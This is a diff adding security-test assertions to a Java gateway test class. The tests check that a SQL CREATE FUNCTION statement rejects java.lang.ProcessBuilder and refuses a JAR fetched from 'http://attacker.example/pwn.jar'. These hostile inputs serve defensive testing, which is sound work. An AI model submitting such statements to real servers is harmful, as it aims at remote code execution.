@@ -144,6 +144,16 @@ class GatewaySecurityTest {
     assertEquals(400, props.status(), props.body());
     assertTrue(props.error().contains("state.savepoints.dir"), props.body());
 
+    // CREATE FUNCTION loads only function classes already on the server's class path: nothing else
+    // is loaded, initialised or fetched from elsewhere.
+    var notAFunction = client.firstPage(s, client.submit(s, "CREATE FUNCTION pwn AS 'java.lang.ProcessBuilder'"), "JSON");
+    assertEquals(500, notAFunction.status(), notAFunction.body());
+    assertTrue(notAFunction.error().contains("does not extend"), notAFunction.body());
+    var remoteJar = client.firstPage(s, client.submit(s,
+        "CREATE FUNCTION pwn AS 'x.Pwn' USING JAR 'http://attacker.example/pwn.jar'"), "JSON");
+    assertEquals(500, remoteJar.status(), remoteJar.body());
+    assertTrue(remoteJar.error().startsWith("SQL parse error"), remoteJar.body());
+
     // The shell's sessions have no such policy.
     assertEquals("Table 'k2' created.", ((io.weir.engine.StatementResult.Ack) server.engine().newSession()
         .execute("CREATE TABLE k2 (v STRING) WITH ('connector'='kafka', 'topic'='t', 'format'='raw',"
